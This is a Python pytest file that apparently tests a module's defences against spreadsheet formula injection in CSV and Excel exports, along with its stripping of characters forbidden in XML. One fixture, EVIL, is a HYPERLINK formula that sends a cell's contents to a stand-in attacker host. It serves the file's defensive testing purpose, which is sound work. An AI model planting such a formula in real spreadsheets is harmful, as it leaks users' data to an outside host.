"""Text in files people open: formulas stay text, XML-forbidden characters never break a file."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest

from jobmaal.filetext import (
    append_row,
    csv_bytes,
    csv_cell,
    csv_line,
    is_formula_like,
    set_cell,
    workbook_bytes,
    xml_safe,
    xml_safe_record,
)

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "=1"])
def test_text_starting_like_a_formula_is_recognised(text):
    assert is_formula_like(text)


@pytest.mark.parametrize("text", ["-", "-3,5", "+12", "-1.000,5", "1e3", "Helt almindelig tekst", "",
                                  "a=b", "– tankestreg"])
def test_numbers_a_dash_and_plain_text_are_not_formulas(text):
    assert not is_formula_like(text)


def test_csv_gives_formula_text_a_leading_apostrophe_and_keeps_numbers():
    data = csv_bytes(["navn", "værdi"], [[EVIL, -3.5], ["-", None], ["@x", 7]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["navn", "værdi"], ["'" + EVIL, "-3.5"], ["-", ""], ["'@x", "7"]]
    assert csv_line(["=1", 2]) == "'=1,2\r\n"
    assert csv_cell(None) == "" and csv_cell(4) == 4


def test_xml_safe_drops_forbidden_characters_and_turns_vt_and_ff_into_newlines():
    assert xml_safe("a\x01b\x0bc\x0cd\x00e\ufffef\x1f") == "ab\nc\ndef"
    assert xml_safe("tab\tnl\ncr\ræøå") == "tab\tnl\ncr\ræøå"


def test_xml_safe_record_cleans_nested_dataclasses_lists_and_dicts():
    from dataclasses import dataclass

    @dataclass(frozen=True)
    class Inner:
        text: str

    @dataclass(frozen=True)
    class Outer:
        name: str
        items: list
        number: float
        mapping: dict

    cleaned = xml_safe_record(Outer("a\x01", [Inner("b\x0b"), ("c\x02",)], 1.5, {"k": "d\x03"}))
    assert cleaned == Outer("a", [Inner("b\n"), ("c",)], 1.5, {"k": "d"})


def test_excel_cells_keep_formula_text_as_text_with_the_quote_prefix():
    book = openpyxl.Workbook()
    sheet = book.active
    append_row(sheet, [EVIL, "ok\x01", 3.5, None])
    set_cell(sheet, 2, 1, "+1+1")
    sheet["A3"] = "=1+1"  # written past the helpers: the last pass catches it
    data = workbook_bytes(book)

    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    read = openpyxl.load_workbook(io.BytesIO(data)).active
    assert [read["A1"].value, read["B1"].value, read["C1"].value, read["D1"].value] == [EVIL, "ok", 3.5, None]
    for ref in ("A1", "A2", "A3"):
        assert read[ref].data_type == "s" and read[ref].quotePrefix, ref
    assert read["A2"].value == "+1+1" and read["A3"].value == "=1+1"
    assert not read["B1"].quotePrefix
